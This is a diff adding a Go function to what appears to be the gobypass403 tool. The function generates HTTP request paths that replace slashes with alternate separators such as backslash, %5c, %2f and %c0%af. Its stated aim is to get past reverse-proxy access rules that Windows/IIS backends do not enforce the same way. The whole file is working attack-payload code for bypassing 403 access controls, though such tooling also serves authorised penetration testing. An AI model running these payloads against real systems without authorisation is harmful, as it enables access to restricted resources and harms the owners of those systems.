@@ -0,0 +1,98 @@
+package payload
+
+import (
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+/*
+GenerateSeparatorPayloads generates payloads by replacing the path separators
+with alternates read from separators.lst (e.g. \, %5c, %2f, %c0%af).
+
+Windows/IIS backends sitting behind a reverse proxy often treat these as a
+regular "/" while the proxy ACLs do not.
+
+For a URL like /a/b/c, it creates these variants (using \ as example):
+1. One separator at a time:
+  - /a\b/c
+  - /a/b\c
+
+2. All separators at once:
+  - /a\b\c
+
+The leading slash is always kept so the request line stays valid.
+Bytes are kept verbatim, no normalization or re-encoding is applied.
+*/
+func (pg *PayloadGenerator) GenerateSeparatorPayloads(targetURL string, bypassModule string) []BypassPayload {
+	var jobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL: %s", targetURL)
+		return jobs
+	}
+
+	separators, err := pg.readModulePayloads("separators.lst")
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to read separators payloads: %v", err)
+		return jobs
+	}
+
+	path := parsedURL.Path
+	if path == "" {
+		path = "/"
+	}
+
+	query := ""
+	if parsedURL.Query != "" {
+		query = "?" + parsedURL.Query
+	}
+
+	// Collect the positions of all separators, except the leading one
+	var slashPositions []int
+	for i := 1; i < len(path); i++ {
+		if path[i] == '/' {
+			slashPositions = append(slashPositions, i)
+		}
+	}
+
+	if len(slashPositions) == 0 {
+		GB403Logger.Debug().BypassModule(bypassModule).Msgf("No path separators to replace for %s", targetURL)
+		return jobs
+	}
+
+	// Map to store unique paths (for deduplication)
+	uniquePaths := make(map[string]struct{})
+
+	for _, sep := range separators {
+		// 1. Replace one separator at a time
+		for _, pos := range slashPositions {
+			uniquePaths[path[:pos]+sep+path[pos+1:]+query] = struct{}{}
+		}
+
+		// 2. Replace all separators at once (leading slash preserved)
+		if len(slashPositions) > 1 {
+			uniquePaths["/"+strings.ReplaceAll(path[1:], "/", sep)+query] = struct{}{}
+		}
+	}
+
+	baseJob := BypassPayload{
+		OriginalURL:  targetURL,
+		Method:       "GET",
+		Scheme:       parsedURL.Scheme,
+		Host:         parsedURL.Host,
+		BypassModule: bypassModule,
+	}
+
+	for rawURI := range uniquePaths {
+		job := baseJob
+		job.RawURI = rawURI
+		job.PayloadToken = GeneratePayloadToken(job)
+		jobs = append(jobs, job)
+	}
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s", len(jobs), targetURL)
+	return jobs
+}